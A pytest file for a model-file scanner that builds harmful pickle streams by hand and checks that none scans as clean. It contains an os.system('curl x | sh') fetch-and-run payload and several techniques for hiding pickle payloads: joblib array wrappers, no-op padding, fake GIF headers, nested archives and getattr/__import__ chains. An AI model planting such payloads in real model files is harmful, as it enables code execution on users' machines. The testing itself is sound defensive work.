"""Harmful files, written by hand: none is clean, and the reason names what would happen."""

from __future__ import annotations

import functools
import io
import zipfile

import joblib
import numpy as np
import pytest

from crenel.scan import Verdict, scan_bytes, source

from .corpus import HARMFUL, ONLY_NOT_CLEAN, name, proto, reduced, stack_name, system, text


@pytest.mark.parametrize("key", sorted(HARMFUL))
def test_harmful_file_is_not_clean(key):
    result = scan_bytes(HARMFUL[key], "model.bin")
    assert result.verdict is not Verdict.CLEAN
    assert result.reasons
    if key not in ONLY_NOT_CLEAN:
        assert result.verdict in (Verdict.DANGEROUS, Verdict.MALICIOUS), result


def test_corpus_is_large_enough():
    assert len(HARMFUL) >= 120


def test_call_is_reconstructed_with_its_offset():
    data = proto(2) + reduced(name("os", "system"), text("curl x | sh")) + b"."
    reason = scan_bytes(data).reasons[0]
    assert reason.call == "os.system('curl x | sh')"
    assert data[reason.offset : reason.offset + 1] == b"R"
    assert reason.verdict is Verdict.MALICIOUS


def test_chain_of_calls_is_reconstructed():
    reason = next(
        r for r in scan_bytes(HARMFUL["chain/getattr-import"]).reasons if r.code == "computed-call"
    )
    assert reason.call == "builtins.getattr(builtins.__import__('os'), 'system')('true')"


def test_member_of_an_archive_is_named():
    result = scan_bytes(HARMFUL["container/zip-in-zip"])
    assert {r.member for r in result.reasons} == {"a/b.zip!m/data.pkl"}


def test_payload_is_reported_beside_the_damage():
    codes = {r.code for r in scan_bytes(HARMFUL["broken/truncated-after-call"]).reasons}
    assert codes == {"hostile-call", "damaged"}


@pytest.mark.parametrize("cut", [3, 10, 20, 26])
def test_truncated_pickle_is_never_clean(cut):
    assert scan_bytes(system()[:cut]).verdict is not Verdict.CLEAN


@pytest.mark.parametrize("path", ["__main__.Net", "mypackage.models.Net"])
def test_own_class_is_for_review_and_says_what_to_trust(path):
    module, _, cls = path.rpartition(".")
    data = proto(4) + stack_name(module, cls) + b")\x81}" + text("w") + b"K\x01sb."
    result = scan_bytes(data)
    assert result.verdict is Verdict.REVIEW
    assert result.reasons[0].call == f"{path}()"
    assert 'trust = "sha256:…"' in result.reasons[0].sentence


def test_extension_cannot_clear_a_file():
    for suffix in ("csv", "txt", "onnx", "safetensors", "png", "json"):
        assert scan_bytes(system(0)[2:], f"x.{suffix}").verdict is Verdict.MALICIOUS
        assert scan_bytes(system(4), f"x.{suffix}").verdict is Verdict.MALICIOUS


def test_joblib_array_bytes_are_read_by_plain_pickle_too():
    """joblib passes over the array; pickle.load runs its bytes as operations."""
    payload = b"0" + reduced(name("os", "system"), text("true")) + b"."
    payload = payload.ljust(-(-len(payload) // 8) * 8, b".")
    dtype = reduced(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")
    state = (
        b"}("
        + b"".join(
            [
                text("subclass") + name("numpy", "ndarray"),
                text("shape") + b"K" + bytes([len(payload) // 8]) + b"\x85",
                text("order") + text("C"),
                text("dtype") + dtype,
                text("allow_mmap") + b"\x88",
            ]
        )
        + b"u"
    )
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state + b"b"
    result = scan_bytes(proto(2) + wrapper + payload + b".")
    assert result.format == "joblib"
    assert result.verdict is Verdict.MALICIOUS
    assert result.reasons[0].sentence.startswith("Read by plain pickle")
    harmless = scan_bytes(proto(2) + wrapper + bytes(len(payload)) + b".")
    assert harmless.verdict is Verdict.CLEAN


@pytest.mark.parametrize("head", [b"N0", b"]0", b"I1\n0", b"GIF89a\0\0\x000"])
def test_operations_that_do_nothing_hide_no_payload(head):
    """None begins as a pickle of protocol 2 does; each is one, and its payload comes late."""
    payload = reduced(name("os", "system"), text("true")) + b"."
    for idle in (1, 120_000):
        result = scan_bytes(head + b"N0" * (idle // 2) + payload, "model.pkl")
        assert result.verdict is Verdict.MALICIOUS


def test_what_is_not_read_to_the_end_as_a_pickle_is_not_clean(monkeypatch):
    monkeypatch.setattr("crenel.scan.formats.pickles.PROBE_OPERATIONS", 1000)
    assert scan_bytes(b"GIF89a\0\0\x000" + b"N0" * 1000, "a.gif").verdict is Verdict.UNREADABLE


FLOAT = reduced(name("numpy", "dtype"), text("f8"), b"\x89", b"\x88")


def wrapped(length: int, dtype: bytes = FLOAT) -> bytes:
    """An array of joblib, up to its bytes."""
    state = (
        text("subclass") + name("numpy", "ndarray"),
        text("shape") + b"J" + length.to_bytes(4, "little") + b"\x85",
        text("order") + text("C"),
        text("dtype") + dtype,
        text("allow_mmap") + b"\x88",
    )
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper")
    return wrapper + b")\x81}(" + b"".join(state) + b"ub"


def test_joblib_array_after_many_operations_is_passed_over():
    """To plain pickle the array begins a string, in which the operations after it are hidden."""
    payload = reduced(name("os", "system"), text("true")) + b"0."
    rest = b"aaa0" + payload + bytes(3_000_000)
    stream = wrapped(1) + b"X" + len(rest).to_bytes(4, "little") + rest + b"."
    assert scan_bytes(proto(2) + stream).verdict is Verdict.MALICIOUS
    assert scan_bytes(proto(2) + b"N0" * 15_000 + stream).verdict is Verdict.MALICIOUS


def test_joblib_array_in_what_passes_for_a_picture_is_passed_over():
    payload = reduced(name("os", "system"), text("true")) + b"0."
    rest = b"aaa0" + payload
    stream = wrapped(1) + b"X" + len(rest).to_bytes(4, "little") + rest + b"."
    assert scan_bytes(b"GIF89a\0\0\x000" + stream, "model.pkl").verdict is Verdict.MALICIOUS


def test_operations_that_do_nothing_hide_no_payload_in_an_array(monkeypatch):
    payload = b"0" + b"N0" * 60_000 + reduced(name("os", "system"), text("true")) + b"."
    payload = payload.ljust(-(-len(payload) // 8) * 8, b".")
    data = proto(2) + wrapped(len(payload) // 8) + payload + b"."
    assert scan_bytes(data).verdict is Verdict.MALICIOUS
    monkeypatch.setattr("crenel.scan.formats.arrays.TWIN_OPERATIONS", 1000)
    assert scan_bytes(data).verdict is Verdict.UNREADABLE


def test_plain_pickle_reads_an_array_of_objects_with_another_memo():
    """To joblib the entry 0 is the array's own; to plain pickle it is that of the stream."""
    kind = reduced(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    outer = text("os") + b"q\0000"
    inner = text("numpy") + b"\x940h\0" + text("system") + b"\x93."
    data = proto(4) + outer + wrapped(1, kind) + proto(4) + inner + b"."
    codes = {r.code for r in scan_bytes(data).reasons}
    assert "hostile-name" in codes


def test_a_long_array_of_objects_is_read_to_its_end(monkeypatch):
    monkeypatch.setattr("crenel.scan.formats.arrays.TWIN_OPERATIONS", 1000)
    buffer = io.BytesIO()
    joblib.dump(np.array([str(i) for i in range(2000)], dtype=object), buffer)
    assert scan_bytes(buffer.getvalue()).verdict is Verdict.CLEAN


def test_arrays_of_objects_share_one_budget(monkeypatch):
    kind = reduced(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    one = wrapped(1, kind) + proto(2) + b"N0" * 1000 + b"N.0"
    budget = functools.partial(source.Budget, operations=5000)
    monkeypatch.setattr("crenel.scan.scanner.Budget", budget)
    assert scan_bytes(proto(2) + one + b"N.").verdict is Verdict.CLEAN
    assert scan_bytes(proto(2) + one * 3 + b"N.").reasons[0].code == "over-budget"


def test_many_reasons_hide_no_payload_in_a_raw_array():
    unlisted = b"".join(name(f"own{i}", "thing") + b"0" for i in range(150))
    raw = unlisted + reduced(name("os", "system"), text("true")) + b"."
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("m/data.pkl", proto(2) + b"N.")
        archive.writestr("m/data/0", raw)
    assert scan_bytes(buffer.getvalue()).verdict is Verdict.MALICIOUS


def test_payload_behind_a_joblib_array_is_found():
    buffer = io.BytesIO()
    joblib.dump({"a": np.arange(100.0), "b": np.array([None, "x"], dtype=object)}, buffer)
    data = buffer.getvalue()
    assert scan_bytes(data).verdict is Verdict.CLEAN
    evil = data[:-1] + reduced(name("os", "system"), text("true")) + b"0."
    assert scan_bytes(evil).verdict is Verdict.MALICIOUS
